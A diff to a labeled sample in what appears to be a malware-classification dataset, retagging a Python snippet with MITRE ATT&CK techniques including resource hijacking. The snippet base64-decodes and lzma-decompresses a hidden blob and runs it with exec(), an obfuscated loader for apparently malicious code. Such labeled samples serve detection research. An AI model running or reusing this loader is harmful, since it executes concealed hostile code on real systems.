@@ -1,4 +1,4 @@
-# label: malicious family=encoded techniques=T1140,T1027,T1059.006 lines=4
+# label: malicious family=encoded techniques=T1027,T1059.006,T1140,T1496 lines=4
 import lzma
 from base64 import b64decode as d
 exec(lzma.decompress(d("/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ADdAHpdADSbSme4Ujxz97iKhsBQHJ1kC9wO5nVJW1EFTdaTe9lJYUoSwt6UbfTrLu4BQvrfRJo5dR9718FtIVpUxNJhqbfnPKjZp7wlyReQ3qC83Mtvm1Ab0Jo0yG+cCsAsPcgvhxU4fGOmqERWYySmyDzBtT5qOAyy/bsKd0VgAAAAqZZDZ1fYI9cAAZYB3gEAAK6sQ/KxxGf7AgAAAAAEWVo=")))
